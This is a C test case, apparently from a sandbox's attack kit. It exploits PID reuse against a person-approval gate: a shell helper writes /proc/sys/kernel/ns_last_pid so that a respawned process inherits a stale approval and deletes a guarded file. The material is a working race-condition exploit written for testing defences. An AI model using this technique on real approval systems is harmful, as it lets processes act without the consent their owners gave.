// tries: to have a person approve what a process asks that is gone by then, and to ask under its number
// works: who answers by the number of a process answers whoever has it then
// see: seccomp_unotify(2), SECCOMP_IOCTL_NOTIF_ID_VALID; CVE-2019-6133 (polkit)
// goal: change
// needs: test -e /proc/sys/kernel/ns_last_pid
// first: . "$KIT/attacks/approver.sh"; (until id=$(holds_of "$ASKED" | head -1); test -n "$id"; do sleep 0.05; done; test -e "$WORK/wanted" && exit; touch "$WORK/shown"; until test -e "$WORK/wanted"; do sleep 0.05; done; read -r wanted <"$WORK/wanted" || exit; for ((turn = 0; turn < 100000; turn++)); do test -e "$WORK/again" && break; echo $((wanted - 1)) >/proc/sys/kernel/ns_last_pid; done; for turn in $(seq 10); do gatekeeper approve "$id"; done) >/dev/null 2>&1 &
// alone: the number is the machine's
// note: A helper outside sets which number comes next, for waiting until the numbers are through takes too long
#include "../kit.h"

static void make(const char *name, pid_t number)
{
	const char *path = join(env("WORK"), name), *draft = join(path, ".draft");
	FILE *file = fopen(draft, "w");

	if (!file)
		must(-1, draft);
	fprintf(file, "%d\n", number);
	fclose(file);
	MUST(rename(draft, path));
}

static pid_t ask(pid_t number)
{
	pid_t child = MUST(fork());

	if (child)
		return child;
	if (!number || getpid() == number)
		_exit(unlink(env("ASKED")) < 0);
	_exit(2);
}

int main(void)
{
	const char *shown = join(env("WORK"), "/shown");
	time_t end = time(NULL) + 8;
	pid_t first = ask(0), again = 0;

	while (access(shown, F_OK) < 0 && access(env("ASKED"), F_OK) == 0 && time(NULL) < end)
		usleep(10000);
	make("/wanted", first);
	kill(first, SIGKILL);
	waitpid(first, NULL, 0);
	while (again != first && access(env("ASKED"), F_OK) == 0 && time(NULL) < end) {
		again = ask(first);
		if (again == first)
			break;
		waitpid(again, NULL, 0);
		usleep(1000);
	}
	printf("%d and %d\n", first, again);
	make("/again", again);
	sleep(2);
	return 0;
}
